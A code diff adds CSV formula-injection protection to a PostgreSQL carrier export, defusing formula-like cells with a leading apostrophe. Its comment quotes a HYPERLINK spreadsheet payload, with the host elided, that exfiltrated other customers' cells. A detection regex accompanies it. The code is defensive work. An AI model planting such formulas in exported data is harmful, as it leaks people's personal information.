@@ -54,6 +54,20 @@ _COPY = pgsql.SQL(
     "COPY (SELECT {cols} FROM logistics.handoff WHERE carrier = {carrier} "
     "ORDER BY order_id) TO STDOUT WITH (FORMAT csv, HEADER true)"
 )
+# A text a spreadsheet would run as a formula: it starts with = + - @ (or a tab or carriage
+# return) and names something to call (a letter, or DDE's |). Such a cell is written with a
+# leading apostrophe, which spreadsheets take as "text". A customer types their own name and
+# address (at checkout, in a correction request): `=HYPERLINK("http://…?"&B2, "x")` as a name
+# ran in the carrier's spreadsheet and sent other customers' cells out. Phones (+86 138 …) and
+# every other value are written as they are.
+_FORMULA = r"^[=+\-@\t\r].*([[:alpha:]]|\|)"
+_DEFUSED = "CASE WHEN {c} ~ {f} THEN chr(39) || {c} ELSE {c} END AS {c}"
+
+
+def _cell(column: str) -> pgsql.Composable:
+    """The column as the file holds it: a formula-looking text defused with an apostrophe."""
+    name = pgsql.Identifier(column)
+    return pgsql.SQL(_DEFUSED).format(c=name, f=pgsql.Literal(_FORMULA))
 
 
 def export_carrier_files(
@@ -75,7 +89,9 @@ def export_carrier_files(
         for carrier in policy.logistics.csv_carriers:
             target = private_dir(folder / carrier)
             query = _COPY.format(
-                cols=pgsql.SQL(", ").join(pgsql.Identifier(c) for c in columns),
+                cols=pgsql.SQL(", ").join(
+                    pgsql.Identifier(c) if c == "order_id" else _cell(c) for c in columns
+                ),
                 carrier=pgsql.Literal(carrier),
             )
             written, rows = _write_copy(cursor, query, target / EXPORT_FILE)
